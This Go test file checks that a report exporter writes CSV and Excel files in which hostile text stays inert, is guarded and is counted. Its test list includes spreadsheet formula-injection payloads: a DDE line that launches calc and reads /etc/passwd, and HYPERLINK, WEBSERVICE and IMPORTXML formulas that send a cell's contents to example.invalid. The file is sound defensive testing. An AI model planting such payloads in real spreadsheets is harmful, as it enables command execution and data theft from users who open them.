package report

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// hostileText is a text that some program takes for something else, and what each kind of file holds of it. Those are
// said here and not computed, so that the tests do not agree with a mistake of the writer.
type hostileText struct {
	name, text string
	csv        string // less the guard; empty: the text as it came
	book       string // likewise
}

func (h hostileText) inCSV() string {
	if h.csv != "" {
		return h.csv
	}
	return h.text
}

func (h hostileText) inBook() string {
	if h.book != "" {
		return h.book
	}
	return h.inCSV()
}

// hostileList has texts that compute, that are cut, split, trimmed or converted, and that no file can hold. Those
// longer than a cell come last.
func hostileList() []hostileText {
	return []hostileText{
		{name: "equals", text: "=1+1"},
		{name: "plus", text: "+1+1"},
		{name: "minus", text: "-1+1"},
		{name: "at", text: "@SUM(1,1)"},
		{name: "tab before equals", text: "\t=1+1"},
		{name: "carriage return before equals", text: "\r=1+1"},
		{name: "line feed before equals", text: "\n=1+1"},
		{name: "line end before equals", text: "\r\n=1+1"},
		{name: "full-width equals", text: "＝1+1"},
		{name: "full-width plus", text: "＋1+1"},
		{name: "full-width minus", text: "－1+1"},
		{name: "full-width at", text: "＠SUM(1,1)"},
		{name: "apostrophe before equals", text: "'=1+1"},
		{name: "two apostrophes before equals", text: "''=1+1"},
		{name: "apostrophe", text: "'tis"},
		{name: "DDE", text: `=cmd|' /C calc'!A0`},
		{name: "DDE behind a sum", text: `+1+cmd|' /C calc'!A0`},
		{name: "DDE function", text: `=DDE("soffice","/etc/passwd","A1")`},
		{name: "HYPERLINK", text: `=HYPERLINK("http://example.invalid/?"&A1,"Open")`},
		{name: "WEBSERVICE", text: `=WEBSERVICE("http://example.invalid/"&A1)`},
		{name: "IMPORTXML", text: `=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")`},
		{name: "IMAGE", text: `=IMAGE("http://example.invalid/a.png")`},
		{name: "LAMBDA", text: `=LAMBDA(x,x+1)(1)`},
		{name: "array formula", text: "{=1+1}"},
		{name: "space before equals", text: " =1+1"},
		{name: "no-break space before equals", text: "\u00a0=1+1"},
		{name: "zero-width space before equals", text: "\u200b=1+1"},
		{name: "byte order mark before equals", text: "\ufeff=1+1"},
		{name: "override before equals", text: "\u202e=1+1"},
		{name: "quotes before equals", text: `"=1+1`},
		{name: "quotes and comma before equals", text: `",=1+1,"`},
		{name: "semicolon before equals", text: "x;=1+1"},
		{name: "tab within, before equals", text: "x\t=1+1"},
		{name: "bar before equals", text: "x|=1+1"},
		{name: "new row before equals", text: "x\"\r\n=1+1,"},
		{name: "separator line", text: "sep=;"},
		{name: "SYLK", text: "ID;PWXL;N;E"},
		{name: "quotes", text: `say "yes", or 'no' - ""`},
		{name: "only quotes", text: `""`},
		{name: "only an end of line", text: "\r\n"},
		{name: "ends of lines", text: "one\r\ntwo\nthree\rfour\n"},
		{name: "spaces around", text: "  padded  "},
		{name: "only spaces", text: "   "},
		{name: "spaces within", text: "two  spaces\tand a tab"},
		{name: "backslashes", text: `C:\new\table\0`},
		{name: "NUL", text: "a\x00b", csv: "a\uFFFDb"},
		{name: "NUL before equals", text: "\x00=1+1", csv: "\uFFFD=1+1"},
		{name: "control characters", text: "a\x01b\x08c\x0bd\x0ce\x1bf\x1fg", book: "a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\uFFFDg"},
		{name: "vertical tab before equals", text: "\x0b=1+1", book: "\uFFFD=1+1"},
		{name: "delete and next line", text: "a\x7fb\u0085c"},
		{name: "lone high surrogate", text: "a\xed\xa0\x80b", csv: "a\uFFFD\uFFFD\uFFFDb"},
		{name: "lone low surrogate", text: "a\xed\xb0\x80b", csv: "a\uFFFD\uFFFD\uFFFDb"},
		{name: "no UTF-8", text: "caf\xe9", csv: "caf\uFFFD"},
		{name: "overlong equals", text: "\xc0\xbd1+1", csv: "\uFFFD\uFFFD1+1"},
		{name: "replaced before it came", text: "a\uFFFDb"},
		{name: "no characters", text: "a\uFFFEb\uFFFFc", book: "a\uFFFDb\uFFFDc"},
		{name: "right-to-left override", text: "invoice\u202excod.exe\u202c"},
		{name: "isolates and marks", text: "\u2066a\u2069\u200f\u200e\u061c"},
		{name: "line separators", text: "a\u2028b\u2029c"},
		{name: "beyond the BMP", text: "\U0001F600\U0001F468\u200d\U0001F469\u200d\U0001F467\U000E0001\U0010FFFD"},
		{name: "combining marks", text: "e\u0301 \u00e9 Z\u0351\u036b\u0343"},
		{name: "not normalised", text: "\u212b \ufb01 \u2126 \u1100\u1161"},
		{name: "escape of a carriage return", text: "_x000D_"},
		{name: "escape of equals", text: "_x003D_1+1"},
		{name: "escapes that share a line", text: "_x0041_x0042_"},
		{name: "escaped escape", text: "_x005F_x000D_"},
		{name: "XML", text: `</t></is></c><c r="A1"><f>1+1</f></c>`},
		{name: "XML entities", text: `&lt; &amp;#61; &#61; <!ENTITY x "y"> ]]>`},
		{name: "exponent", text: "0503E000"},
		{name: "leading zeros", text: "00123"},
		{name: "day and month", text: "1-2"},
		{name: "date", text: "2026-03-01"},
		{name: "name of a gene", text: "MARCH1"},
		{name: "fraction", text: "1/2"},
		{name: "time", text: "12:30"},
		{name: "truth", text: "TRUE"},
		{name: "error value", text: "#N/A"},
		{name: "percent", text: "5%"},
		{name: "long number", text: "123456789012345678901234567890"},
		{name: "decimal comma", text: "1,5"},
		{name: "hexadecimal", text: "0x1F"},
		{name: "infinity", text: "1e999"},
		{name: "null", text: "NULL"},
		{name: "253 line feeds", text: strings.Repeat("line\n", 253) + "end"},
		{name: "254 line feeds", text: strings.Repeat("line\n", 254) + "end"},
		{name: "32,767 units", text: strings.Repeat("x", 32767)},
		{name: "32,768 units", text: strings.Repeat("x", 32768)},
		{name: "32,768 units beyond the BMP", text: strings.Repeat("\U0001F600", 32768/2)},
		{name: "long formula", text: "=" + strings.Repeat("1+", 32768/2) + "1"},
		{name: "long, and with a character no workbook holds", text: strings.Repeat("x", 32767) + "\x01", book: strings.Repeat("x", 32767) + "\uFFFD"},
	}
}

// hostileListSource has a row for each of the list in every view, and the text in every column of text; the long ones
// in the last only.
func hostileListSource() fakeSource {
	const long = 1000
	rows := map[string][]map[string]any{}
	for _, tab := range tables() {
		for _, h := range hostileList() {
			row := map[string]any{}
			last := ""
			for _, c := range tab.Columns {
				if c.Added || c.Name == "tenant" { // whose name is the run's
					continue
				}
				switch c.Kind {
				case textKind, idKind:
					row[c.Name], last = h.text, c.Name
				case listKind:
					row[c.Name], last = []string{h.text}, c.Name
				}
			}
			if len(h.text) > long {
				row = map[string]any{last: row[last]}
			}
			rows[tab.View] = append(rows[tab.View], row)
		}
	}
	return fakeSource{rows: rows}
}

// hostileRun says hostile things of itself, too.
func hostileRun() Run {
	run := testRun(StatusPartial)
	run.Scope = Scope{IDs: []string{"=1+1", "@SUM(1,1)"}, CampaignIDs: []string{"-1+1"}, Filter: `=HYPERLINK("http://example.invalid")`, Permissions: "+1+1"}
	run.APIHost, run.ToolVersion, run.KnownGaps = "=1+1", "=1+1", []string{"=1+1"}
	run.Deprecation = []string{"=1+1"}
	run.Provenance = nil
	for _, h := range hostileList() {
		run.Provenance = append(run.Provenance, Fact{Name: h.name, Value: h.text})
	}
	return run
}

// wantHostile gives the texts of a table's columns of text, by row of the source: what in gives of each.
func wantHostile(tab table, columns []int, in func(hostileText) string) [][]string {
	src := hostileListSource()
	var want [][]string
	for n, h := range hostileList() {
		var row []string
		for _, i := range columns {
			text := ""
			if src.rows[tab.View][n][tab.Columns[i].Name] != nil {
				text = in(h)
			}
			row = append(row, text)
		}
		want = append(want, row)
	}
	return want
}

// textColumns are the positions of the columns of text that a file has, among those in places.
func textColumns(tab table, places []int) []int {
	var columns []int
	for _, i := range places {
		if tab.Columns[i].Added || tab.Columns[i].Name == "tenant" {
			continue
		}
		switch tab.Columns[i].Kind {
		case textKind, idKind, listKind:
			columns = append(columns, i)
		}
	}
	return columns
}

// placesInFile are those of columns of the table in its file.
func placesInFile(tab table, columns []int) []int {
	var places []int
	for _, i := range columns {
		places = append(places, slices.Index(tab.inFile(), i))
	}
	return places
}

func everyColumn(tab table) []int {
	all := make([]int, len(tab.Columns))
	for i := range all {
		all[i] = i
	}
	return all
}

var guardedText = regexp.MustCompile("^'('*[=+\\-@\t\r\n＝＋－＠])")

// unguarded takes the guard off a cell of a CSV, as the README tells how.
func unguarded(cell string) string {
	if guardedText.MatchString(cell) {
		return cell[1:]
	}
	return cell
}

func TestHostileListIsLong(t *testing.T) {
	t.Parallel()
	names, texts := map[string]bool{}, map[string]bool{}
	for _, h := range hostileList() {
		names[h.name], texts[h.text] = true, true
	}
	if n := len(hostileList()); n < 40 || len(names) != n || len(texts) != n {
		t.Errorf("%d texts, %d of them different, under %d names; want 40 at least, all different", n, len(texts), len(names))
	}
}

// Python's csv reads what came, but for what UTF-8 cannot hold.
func TestPythonReadsEveryHostileTextFromCSV(t *testing.T) {
	t.Parallel()
	python := needPython(t)
	for _, guard := range []bool{true, false} {
		s := Settings{Formats: []string{FormatCSV}, FormulaGuard: guard}
		res := mustWrite(t, t.TempDir(), hostileRun(), hostileListSource(), s)
		for _, tab := range tables() {
			rows := pythonCSV(t, python, filepath.Join(res.Folder, tab.View+".csv"))
			if d := cmp.Diff(tab.fileNames(), rows[0]); d != "" {
				t.Errorf("%s: header (-want +got):\n%s", tab.View, d)
			}
			columns := textColumns(tab, everyColumn(tab))
			want := wantHostile(tab, columns, hostileText.inCSV)
			got := pick(rows[1:], placesInFile(tab, columns))
			if guard {
				got = each(got, unguarded)
			}
			if d := cmp.Diff(want, got); d != "" {
				t.Errorf("guard %v: %s (-want +got):\n%s", guard, tab.View, d)
			}
		}
	}
}

// pythonCSV reads a CSV file with Python's csv.
func pythonCSV(t *testing.T, python, path string) [][]string {
	t.Helper()
	out, err := exec.CommandContext(t.Context(), python, "testdata/readcsv.py", path).Output()
	if err != nil {
		t.Fatal(err)
	}
	var rows [][]string
	if err := json.Unmarshal(out, &rows); err != nil {
		t.Fatal(err)
	}
	return rows
}

// needPython gives a Python with openpyxl. In CI it has to be there.
func needPython(t *testing.T) string {
	t.Helper()
	python := pythonWithOpenpyxl(t.Context())
	if python == "" {
		if os.Getenv("CI") != "" {
			t.Fatal("no python3 with openpyxl")
		}
		t.Skip("no python3 with openpyxl")
	}
	return python
}

// Openpyxl finds the texts in the workbook, or where it is pointed to, and no formula anywhere.
func TestOpenpyxlReadsEveryHostileTextFromTheWorkbook(t *testing.T) {
	t.Parallel()
	python := needPython(t)
	res := mustWrite(t, t.TempDir(), hostileRun(), hostileListSource(), both())
	out, err := exec.CommandContext(t.Context(), python, "testdata/readcells.py", res.Workbook).Output()
	if err != nil {
		t.Fatal(err)
	}
	var sheets map[string][][]struct{ Text, Type string }
	if err := json.Unmarshal(out, &sheets); err != nil {
		t.Fatal(err)
	}
	got := map[string][][]string{}
	for name, rows := range sheets {
		for n, row := range rows {
			var texts []string
			for i, c := range row {
				if c.Type == "f" {
					t.Errorf("sheet %s, row %d, cell %d is a formula: %q", name, n+1, i+1, c.Text)
				}
				texts = append(texts, unescaped(c.Text))
			}
			got[name] = append(got[name], texts)
		}
	}
	compareHostileBook(t, got, func(s string) string { return s })
}

// compareHostileBook compares the sheets of a workbook, as another program reads them, with the list. Alike makes the
// same of texts that the program does not tell apart.
func compareHostileBook(t *testing.T, got map[string][][]string, alike func(string) string) {
	t.Helper()
	long := map[string]string{} // full texts, by entry
	for _, row := range got["Long Text"][1:] {
		long[row[0]] += row[6]
	}
	pointers := 0
	full := func(cell string) string {
		rest, ok := strings.CutPrefix(cell, "[Shortened; full text: sheet Long Text, entry ")
		if !ok {
			return alike(cell)
		}
		pointers++
		entry, _, _ := strings.Cut(rest, "]")
		return alike(long[entry])
	}
	for _, tab := range tables() {
		columns := textColumns(tab, tab.onSheet())
		var at []int // their places on the sheet
		for n, i := range tab.onSheet() {
			if len(at) < len(columns) && columns[len(at)] == i {
				at = append(at, n)
			}
		}
		want := each(wantHostile(tab, columns, hostileText.inBook), alike)
		if d := cmp.Diff(want, each(pick(got[tab.Sheet][1:], at), full)); d != "" {
			t.Errorf("sheet %s (-want +got):\n%s", tab.Sheet, d)
		}
	}
	var facts [][]string
	for _, h := range hostileList() {
		facts = append(facts, []string{h.name, alike(h.inBook())})
	}
	if d := cmp.Diff(facts, each(pick(got["Provenance"][1:], []int{0, 1}), full)); d != "" {
		t.Errorf("sheet Provenance (-want +got):\n%s", d)
	}
	each(got["Findings"][1:], full) // whose details quote what the tenant said of its errors
	if pointers == 0 || pointers != len(long) {
		t.Errorf("%d cells point to %d entries of Long Text", pointers, len(long))
	}
}

// pick takes columns of rows, which readers may have cut behind the last cell that is not empty.
func pick(rows [][]string, columns []int) [][]string {
	var out [][]string
	for _, row := range rows {
		picked := make([]string, len(columns))
		for n, i := range columns {
			if i < len(row) {
				picked[n] = row[i]
			}
		}
		out = append(out, picked)
	}
	return out
}

func each(rows [][]string, f func(string) string) [][]string {
	for _, row := range rows {
		for i := range row {
			row[i] = f(row[i])
		}
	}
	return rows
}

var escape = regexp.MustCompile(`_x[0-9A-Fa-f]{4}_`)

// unescaped reads _x005F_ and its like, which openpyxl leaves to its users.
func unescaped(s string) string {
	return escape.ReplaceAllStringFunc(s, func(e string) string {
		n, err := strconv.ParseUint(e[2:6], 16, 16)
		if err != nil {
			return e
		}
		return string(rune(n))
	})
}

// Excel takes what is typed into a cell of format General for a formula, and what was there when a cell is left, too:
// a double click would be enough.
func TestCellsOfTextStayTextWhenEdited(t *testing.T) {
	t.Parallel()
	res := mustWrite(t, t.TempDir(), hostileRun(), hostileListSource(), both())
	xl := openBook(t, res.Workbook)
	for _, name := range xl.GetSheetList() {
		rows, err := xl.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for n, row := range rows {
			for i, text := range row {
				if n == 0 && name != summarySheet || !startsFormula(text) {
					continue
				}
				cell, err := excelize.CoordinatesToCellName(i+1, n+1)
				if err != nil {
					t.Fatal(err)
				}
				kind, err := xl.GetCellType(name, cell)
				if err != nil {
					t.Fatal(err)
				}
				if kind == excelize.CellTypeUnset {
					continue // a number, in a format with a sign
				}
				id, err := xl.GetCellStyle(name, cell)
				if err != nil {
					t.Fatal(err)
				}
				style, err := xl.GetStyle(id)
				if err != nil {
					t.Fatal(err)
				}
				if style.NumFmt != formatText {
					t.Errorf("sheet %s: %s holds %.20q in number format %d, want %d", name, cell, text, style.NumFmt, formatText)
				}
			}
		}
	}
}

// Every cell that is not as it came is counted: on the Summary, in the manifest and in the result.
func TestAlteredCellsAreCounted(t *testing.T) {
	t.Parallel()
	texts := []string{
		"=1+1", "＋1", "'=1", "'tis", "plain", // guarded in the CSV: three
		"a\x01b", "a\x00b", "a\xed\xa0\x80b", // replaced: three in the workbook, two in the CSV
		strings.Repeat("x", maxCellUnits+1), strings.Repeat("\n", maxCellLines+1), // moved; the second guarded as well
	}
	rows := make([]map[string]any, 0, len(texts))
	for _, s := range texts {
		rows = append(rows, base(map[string]any{"baseline_run_id": int64(1), "after": s}))
	}
	src := fakeSource{rows: map[string][]map[string]any{viewChanges: rows}}
	for _, tt := range []struct {
		formats                      []string
		guarded, replaced, shortened int64
	}{
		{[]string{FormatCSV, FormatXLSX}, 4, 5, 2},
		{[]string{FormatCSV}, 4, 2, 0},
		{[]string{FormatXLSX}, 0, 3, 2},
	} {
		run := testRun(StatusSealed)
		run.Provenance = nil
		res := mustWrite(t, t.TempDir(), run, src, Settings{Formats: tt.formats, FormulaGuard: true})
		want := []int64{tt.guarded, tt.replaced, tt.shortened}
		if d := cmp.Diff(want, []int64{res.GuardedCells, res.ReplacedCells, res.ShortenedCells}); d != "" {
			t.Errorf("%v: guarded, replaced, shortened of the result (-want +got):\n%s", tt.formats, d)
		}
		m := readManifest(t, res.Folder)
		if d := cmp.Diff(want, []int64{m.GuardedCells, m.ReplacedCells, m.ShortenedCells}); d != "" {
			t.Errorf("%v: guarded, replaced, shortened of the manifest (-want +got):\n%s", tt.formats, d)
		}
		if res.Workbook == "" {
			continue
		}
		summary, err := openBook(t, res.Workbook).GetRows(summarySheet)
		if err != nil {
			t.Fatal(err)
		}
		shown := map[string]string{}
		for _, row := range summary {
			if len(row) > 1 {
				shown[row[0]], _, _ = strings.Cut(row[1], ":")
			}
		}
		for label, n := range map[string]int64{"Guarded CSV cells": tt.guarded, "Cells with replaced characters": tt.replaced, "Shortened cells": tt.shortened} {
			want := strconv.FormatInt(n, 10)
			if n == 0 {
				want = "none"
			}
			if shown[label] != want {
				t.Errorf("%v: Summary says %q of %s, want %s", tt.formats, shown[label], label, want)
			}
		}
	}
}

func readManifest(t *testing.T, folder string) Manifest {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(folder, manifestName))
	if err != nil {
		t.Fatal(err)
	}
	var m Manifest
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	return m
}
